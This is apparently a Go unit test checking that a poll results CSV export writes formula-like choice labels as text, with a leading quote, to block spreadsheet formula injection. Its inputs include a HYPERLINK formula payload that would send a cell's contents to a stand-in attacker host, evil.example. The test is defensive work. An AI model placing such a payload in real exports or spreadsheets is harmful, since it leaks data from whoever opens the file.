package api

import (
	"bytes"
	"encoding/csv"
	"testing"
)

// A choice's label is anybody's text: in the results CSV, one that a
// spreadsheet would run as a formula (=, +, -, @, tab, carriage return
// first) is written as text, with a ' in front; any other label, quotes
// and commas included, is written as it is.
func TestResultsCSVWritesFormulaLikeChoicesAsText(t *testing.T) {
	labels := map[string]string{
		`=HYPERLINK("http://evil.example/?x="&A1,"click")`: `'=HYPERLINK("http://evil.example/?x="&A1,"click")`,
		"@SUM(1+1)": "'@SUM(1+1)",
		"+1-1":      "'+1-1",
		"-1":        "'-1",
		"\tx":       "'\tx",
		"\rx":       "'\rx",
		"Yes, =1":   "Yes, =1",
		`"Oui"`:     `"Oui"`,
		"":          "",
	}
	v := &ResultsView{Height: 7, Status: "open"}
	var want []string
	for in, out := range labels {
		v.Choices = append(v.Choices, ChoiceCount{Label: in, Count: 3})
		want = append(want, out)
	}
	var buf bytes.Buffer
	if err := v.WriteCSV(&buf); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != len(want)+1 {
		t.Fatalf("%d rows, want %d", len(rows), len(want)+1)
	}
	for i, w := range want {
		if got := rows[i+1][3]; got != w {
			t.Errorf("choice %q written %q, want %q", v.Choices[i].Label, got, w)
		}
	}
}
